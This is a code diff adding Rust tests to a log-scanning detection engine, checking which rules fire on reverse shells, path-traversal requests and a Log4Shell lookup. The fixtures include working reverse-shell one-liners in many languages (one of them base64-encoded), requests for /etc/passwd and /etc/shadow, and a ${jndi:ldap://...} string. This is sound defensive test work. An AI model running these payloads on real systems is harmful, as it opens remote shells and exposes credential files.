@@ -161,6 +161,119 @@ fn webapp_family() {
     );
 }
 
+#[test]
+fn code_shells_need_a_socket_and_a_shell_in_code_not_in_stack_frames() {
+    // Every line here must give no hit at all: stack frames, library and runtime messages
+    // that name sockets, process builders or shells without being a reverse shell.
+    let json_trace = r#"{"@timestamp":"2026-11-27T14:19:42.131Z","level":"ERROR","stack_trace":"java.net.ConnectException: Connection refused\n\tat java.net.PlainSocketImpl.socketConnect(Native Method)\n\tat java.net.Socket.connect(Socket.java:589)\n\tat sun.nio.ch.SocketChannelImpl.connect(SocketChannelImpl.java:624)\n\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)\n\tat java.lang.Runtime.exec(Runtime.java:620)\n"}"#;
+    table(
+        "",
+        &[],
+        &[
+            "\tat java.net.Socket.connect(Socket.java:589)",
+            "\tat java.net.Socket.connect(Socket.java:538)\n\tat java.net.Socket.<init>(Socket.java:434)",
+            "\tat sun.nio.ch.SocketChannelImpl.connect(SocketChannelImpl.java:624)",
+            "\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)",
+            "\tat java.lang.Runtime.exec(Runtime.java:620)",
+            "import java.net.Socket;",
+            json_trace,
+            "   at System.Net.Sockets.TcpClient.Connect(String hostname, Int32 port)",
+            "   at System.Net.Sockets.TcpClient.GetStream()",
+            "Error: connect ECONNREFUSED 10.0.0.5:5432 at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1555:16) net.Socket",
+            "child_process exited with code 1 (spawned by npm run build)",
+            "DBD::mysql: IO::Socket::SSL: SSL connect attempt failed error:0200100D:system library:fopen:Permission denied",
+            "PHP Warning:  fsockopen(): unable to connect to smtp.example.com:25 (Connection timed out) in /var/www/system/libraries/Email.php on line 1962",
+            "Net::HTTP: Failed to open TCP connection to api.example.com:443 (TCPSocket.open) /usr/lib/ruby/2.7.0/net/http.rb:960:in `initialize': system call error",
+            "lua: socket.tcp: connection refused (popen pool exhausted)",
+        ],
+    );
+    // Reverse shells written as code still fire, socket and shell in one record.
+    table(
+        "shell",
+        &[
+            (r#"node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"10.0.0.1",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);});})();'"#, "shell.reverse.node"),
+            ("require('child_process').exec('nc -e /bin/sh 10.0.0.1 4242')", "shell.reverse.node"),
+            ("String cmd=\"/bin/sh\";Process p=new ProcessBuilder(cmd).redirectErrorStream(true).start();Socket s=new Socket(host,port);", "shell.reverse.java"),
+            ("Socket s=new java.net.Socket(\"10.0.0.1\",4444);Runtime.getRuntime().exec(\"/bin/sh\");", "shell.reverse.java"),
+            ("perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'", "shell.reverse.perl"),
+            ("ruby -rsocket -e 'c=TCPSocket.new(\"10.0.0.1\",\"4242\");while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'", "shell.reverse.ruby"),
+            ("php -r '$sock=fsockopen(\"10.0.0.1\",4242);`/bin/sh -i <&3 >&3 2>&3`;'", "shell.reverse.php"),
+            ("lua -e \"require('socket');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');\"", "shell.reverse.lua"),
+            ("Socket.connect(\"10.0.0.1\", 4242).then((socket) { Process.start('/bin/sh', []) });", "shell.code.socket-shell"),
+            ("si.hStdInput = si.hStdOutput = si.hStdError = (HANDLE)sock;", "shell.code.socket-stdio"),
+            ("$c = New-Object -TypeName ('System.Net.Sockets.TCPClient')('10.0.0.1',4242);$s = $c.GetStream()", "shell.reverse.powershell"),
+            ("$c=[System.Net.Sockets.TcpClient]::new('10.0.0.1',4242);$s=$c.GetStream();iex $x", "shell.reverse.powershell"),
+            ("p = Process.new(m.rstrip, output: Process::Redirect::Pipe, shell: true)", "shell.spawn.code"),
+        ],
+        &[],
+    );
+}
+
+#[test]
+fn path_traversal_is_a_request_climbing_or_reaching_a_sensitive_file() {
+    table(
+        "web.path-traversal",
+        &[
+            ("GET /../../../../etc/passwd HTTP/1.1", "web.path-traversal"),
+            ("GET /download?file=..%2f..%2fetc%2fpasswd HTTP/1.1", "web.path-traversal"),
+            ("GET /static/%252e%252e/%252e%252e/%252e%252e/etc/shadow HTTP/1.1", "web.path-traversal"),
+            ("GET /img?f=....//....//....//etc/passwd HTTP/1.1", "web.path-traversal"),
+            (r"GET /view?page=..\..\..\windows\win.ini HTTP/1.1", "web.path-traversal"),
+            ("GET /index.php?page=/etc/passwd HTTP/1.1", "web.path-traversal"),
+            ("GET /read?u=file:///etc/shadow HTTP/1.1", "web.path-traversal"),
+            ("POST /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", "web.path-traversal"),
+            ("GET /;/..;/manager/html HTTP/1.1", "web.path-traversal"),
+            ("GET /proc/self/environ HTTP/1.1", "web.path-traversal"),
+        ],
+        &[
+            "cat: /etc/shadow: Permission denied",
+            "[Wed Nov 27 14:01:05 2026] [error] sh: 1: cannot open /etc/passwd: Permission denied",
+            "useradd[311]: new user: name=app, UID=1000, GID=1000, home=/home/app, shell=/bin/sh, from=none",
+            "passwd[412]: password for 'app' changed, /etc/shadow updated",
+            "GET /docs/../index.html HTTP/1.1",
+        ],
+    );
+}
+
+#[test]
+fn a_weaker_rule_of_the_family_yields_to_the_stronger_hit_on_the_same_record() {
+    let e = engine();
+    let ids = rule_ids(&e, "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1");
+    assert!(ids.contains(&"shell.reverse.dev-tcp".to_string()), "{ids:?}");
+    assert!(!ids.contains(&"shell.interactive".to_string()), "duplicate next to the reverse shell: {ids:?}");
+    // Decoded from base64: the reverse shell inside still supersedes the bare `bash -i`.
+    let java = "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80MjQyIDA+JjE=}|{base64,-d}|{bash,-i}";
+    let ids = rule_ids(&e, java);
+    assert!(ids.contains(&"shell.reverse.dev-tcp".to_string()), "{ids:?}");
+    assert!(!ids.contains(&"shell.interactive".to_string()), "{ids:?}");
+    let ps = "powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242);$s=$c.GetStream();iex $d\"";
+    let ids = rule_ids(&e, ps);
+    assert!(ids.contains(&"shell.reverse.powershell".to_string()), "{ids:?}");
+    assert!(!ids.contains(&"shell.code.socket-shell".to_string()), "{ids:?}");
+    let php = "php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'";
+    assert_eq!(rule_ids(&e, php), vec!["shell.reverse.php".to_string()]);
+    // A bare interactive shell or shell spawn keeps its own finding.
+    for bare in ["docker exec -it web /bin/bash -i", "sh -i"] {
+        assert_eq!(rule_ids(&e, bare), vec!["shell.interactive".to_string()], "{bare}");
+    }
+    assert_eq!(rule_ids(&e, "perl -e 'exec \"/bin/sh\";'"), vec!["shell.spawn.code".to_string()]);
+}
+
+#[test]
+fn hit_indicators_are_listed_once_sorted() {
+    let dir = tempfile::tempdir().unwrap();
+    let line = "198.51.100.23 - - [27/Nov/2026:13:47:05 +0000] \"GET / HTTP/1.1\" 302 398 \"-\" \"${jndi:ldap://198.51.100.23:1389/Exploit}\"\n";
+    write_files(dir.path(), &[("access.log", line.as_bytes())]);
+    let (v, _) = run_json(&["logs", dir.path().join("access.log").to_str().unwrap()]);
+    let iocs: Vec<&str> = v["bundles"][0]["log_hits"][0]["iocs"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|i| i.as_str().unwrap())
+        .collect();
+    assert_eq!(iocs, ["ip:198.51.100.23", "port:1389", "url:ldap://198.51.100.23:1389/Exploit"]);
+}
+
 /// A log with attacks on short lines, inside a long line, CRLF, NUL bytes and no final newline.
 fn tricky_log() -> Vec<u8> {
     let mut v = Vec::new();
